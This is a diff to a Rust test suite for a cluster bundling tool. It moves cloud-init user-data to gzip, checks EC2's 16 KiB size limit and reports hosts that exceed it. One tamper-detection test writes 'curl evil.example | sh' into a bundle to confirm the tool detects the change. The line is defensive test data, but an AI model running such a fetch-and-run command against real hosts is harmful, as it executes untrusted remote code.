@@ -3,7 +3,7 @@
 use std::collections::BTreeMap;
 use std::fs;
 use std::os::unix::fs::PermissionsExt;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 
 use base64ct::Encoding;
 use clusterctl::bundle::archive;
@@ -82,12 +82,24 @@ fn a_folders_modes_do_not_depend_on_the_umask_and_a_second_run_replaces_it_whole
 
 // ── cloud-init ──
 
-/// The user-data of a host, and where it lies.
-fn user_data(lab: &Lab, host: &str) -> String {
+/// Makes the user-data of a host; its path.
+fn packed_user_data(lab: &Lab, host: &str) -> PathBuf {
     let ran = lab.good(&["bundle", host, "--format", "cloud-init"]);
-    assert_eq!(ran.out, format!("DIR/bundles/{host}.cloud-init.yaml\n"));
+    assert_eq!(ran.out, format!("DIR/bundles/{host}.cloud-init.yaml.gz\n"));
     assert!(ran.err.contains("warning: the keys are in it in the clear."), "{ran}");
-    lab.path(&format!("bundles/{host}.cloud-init.yaml")).display().to_string()
+    lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"))
+}
+
+/// Makes the user-data of a host, and decompresses it as cloud-init does; the text's path.
+fn user_data(lab: &Lab, host: &str) -> String {
+    decompressed(lab, &packed_user_data(lab, host))
+}
+
+/// The path of a decompressed copy.
+pub(crate) fn decompressed(lab: &Lab, packed: &Path) -> String {
+    let text = good_tool("gzip", &["-dc", &packed.display().to_string()]);
+    lab.write("user-data.yaml", &text);
+    lab.path("user-data.yaml").display().to_string()
 }
 
 /// Runs Python with cloud-init's own modules.
@@ -105,10 +117,12 @@ fn cloud_init_accepts_the_user_data_of_every_kind_of_host() {
         let path = user_data(&lab, host);
         let said = good_tool("cloud-init", &["schema", "--config-file", &path]);
         assert!(said.contains("Valid cloud-config"), "{said}");
-        assert_eq!(fs::metadata(&path).expect("facts").permissions().mode() & 0o777, 0o600);
-        let first = fs::read(&path).expect("user-data");
-        user_data(&lab, host);
-        assert_eq!(fs::read(&path).expect("user-data"), first, "the same bytes");
+        let packed = lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"));
+        assert_eq!(fs::metadata(&packed).expect("facts").permissions().mode() & 0o777, 0o600);
+        let first = fs::read(&packed).expect("user-data");
+        fs::remove_file(&packed).expect("removed");
+        packed_user_data(&lab, host);
+        assert_eq!(fs::read(&packed).expect("user-data"), first, "the same bytes");
     }
     // A schema that accepts everything would prove nothing.
     let path = user_data(&lab, "on");
@@ -118,15 +132,36 @@ fn cloud_init_accepts_the_user_data_of_every_kind_of_host() {
 }
 
 #[test]
-fn a_nodes_user_data_fits_into_what_ec2_takes() {
+fn a_nodes_user_data_fits_into_what_ec2_takes_and_every_host_that_does_not_fit_is_named_with_its_size() {
+    // As long as a name can be, signed, and with more than EC2's own names in the certificates.
+    let long = "ip-10-120-233-117.eu-central-1.compute.internal";
+    let more =
+        format!("nodes:\n- {{name: {long}, addresses: [10.20.3.7, \"fd20:1::7\", {long}, a.{long}, b.{long}]}}\n");
+    let lab = Lab::with(&CLUSTER.replace("nodes:\n", &more));
+    lab.good(&["init-ca", "--plaintext-ca-key"]);
+    lab.good(&["issue-master", "--all"]);
+    lab.good(&["issue-node", "--all"]);
+    ssh_key(&lab, "signer", "ecdsa", "");
+    let ran = lab.good(&["bundle", "--all", "--format", "cloud-init", "--sign-with", "signer"]);
+    let size = |host: &str| fs::metadata(lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"))).expect("facts").len();
+    for node in [long, "worker-a1.fra1.example.net", "on", "worker-b1"] {
+        assert!(size(node) <= 16 << 10, "{node}: {}", size(node));
+        assert!(!ran.err.contains(&format!("{node} (")), "{ran}");
+    }
+    for master in ["master-1", "master-2"] {
+        let told = format!("{master} ({} bytes)", size(master));
+        assert_eq!(ran.err.contains(&told), size(master) > 16 << 10, "{told}: {ran}");
+    }
+    println!("node {}, long name {}, master {}", size("on"), size(long), size("master-1"));
+}
+
+#[test]
+fn user_data_of_an_earlier_version_does_not_stay_beside_the_new() {
     let lab = Lab::issued();
-    let length = fs::metadata(user_data(&lab, "worker-a1.fra1.example.net")).expect("facts").len();
-    assert!(length <= 16 << 10, "{length}");
-    let ran = lab.good(&["bundle", "master-1", "--format", "cloud-init"]);
-    assert!(
-        ran.err.contains("1 of them: over 16 KiB, which is more than EC2 takes; lay it in a private bucket"),
-        "{ran}"
-    );
+    packed_user_data(&lab, "on");
+    lab.write("bundles/on.cloud-init.yaml", "#cloud-config\n# with keys in the clear\n");
+    packed_user_data(&lab, "on");
+    assert!(!lab.path("bundles/on.cloud-init.yaml").exists());
 }
 
 #[test]
@@ -142,7 +177,7 @@ fn signed_user_data_installs_only_what_somebody_allowed_has_signed_and_an_igniti
     assert!(!lab.path("bundles").exists(), "nothing is packed");
 
     lab.good(&["bundle", "on", "--format", "cloud-init", "--sign-with", "signer"]);
-    let path = lab.path("bundles/on.cloud-init.yaml").display().to_string();
+    let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
     let (staging, root) = (lab.path("staging"), lab.path("root"));
     fs::create_dir_all(root.join("etc")).expect("a folder");
     fs::write(root.join("etc/hostname"), "on\n").expect("written");
@@ -160,7 +195,7 @@ fn signed_user_data_installs_only_what_somebody_allowed_has_signed_and_an_igniti
     assert!(right.status.success(), "{right:?}");
     assert!(String::from_utf8_lossy(&right.stdout).contains("Signed by signer@example.net.\n"), "{right:?}");
     // The whole tree, the signature with it, is what `show` reads back and `verify --offline` judges.
-    lab.good(&["show", "bundles/on.cloud-init.yaml"]);
+    lab.good(&["show", "bundles/on.cloud-init.yaml.gz"]);
 }
 
 /// Lays down the files of user-data under `$2` in place of /run/clusterctl, as cloud-init does, and prints the last command.
@@ -392,7 +427,7 @@ fn ignitions_own_validator_accepts_the_config() {
 // ── whatever the form, it is explained and judged ──
 
 const FORMS: [(&str, &str); 4] =
-    [("tar.gz", "on.tar.gz"), ("dir", "on"), ("cloud-init", "on.cloud-init.yaml"), ("ignition", "on.ign")];
+    [("tar.gz", "on.tar.gz"), ("dir", "on"), ("cloud-init", "on.cloud-init.yaml.gz"), ("ignition", "on.ign")];
 
 #[test]
 fn show_and_verify_read_every_form() {
@@ -408,7 +443,7 @@ fn show_and_verify_read_every_form() {
     let mut addresses: Vec<&str> = matches.map(|r| r["address"].as_str().expect("an address")).collect();
     addresses.sort_unstable();
     let names: Vec<&str> = addresses.iter().filter_map(|path| path.rsplit('/').next()).collect();
-    assert_eq!(names, ["on", "on.cloud-init.yaml", "on.ign", "on.tar.gz"]);
+    assert_eq!(names, ["on", "on.cloud-init.yaml.gz", "on.ign", "on.tar.gz"]);
 }
 
 #[test]
@@ -432,7 +467,10 @@ fn what_somebody_changed_in_a_parcel_is_found() {
     assert!(judged("clusterctl bundle on --format dir").contains("etc/kubernetes/kubelet.conf is damaged"));
     lab.good(&["bundle", "on", "--format", "dir"]);
 
-    change("bundles/on.cloud-init.yaml", "systemctl restart kubelet", "curl evil.example | sh");
+    let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
+    change("user-data.yaml", "systemctl restart kubelet", "curl evil.example | sh");
+    good_tool("gzip", &["-nf", &path]);
+    fs::rename(lab.path("user-data.yaml.gz"), lab.path("bundles/on.cloud-init.yaml.gz")).expect("replaced");
     assert!(judged("clusterctl bundle on --format cloud-init").contains("or somebody changed it since"));
     lab.good(&["bundle", "on", "--format", "cloud-init"]);
 
@@ -476,9 +514,7 @@ fn a_template_that_fails_is_named_with_its_line_and_the_value() {
     fs::create_dir_all(lab.path("templates/node/etc/kubernetes")).expect("a folder");
     // That a generation was taken, and went unused, is all that is left.
     let snapshot = || {
-        let others = |path: &std::path::PathBuf| {
-            !path.starts_with(lab.path("bundles")) && *path != lab.path("pki/ledger.sqlite3")
-        };
+        let others = |path: &PathBuf| !path.starts_with(lab.path("bundles")) && *path != lab.path("pki/ledger.sqlite3");
         lab.snapshot().into_iter().filter(|(path, _)| others(path)).collect::<BTreeMap<_, _>>()
     };
     let before = snapshot();
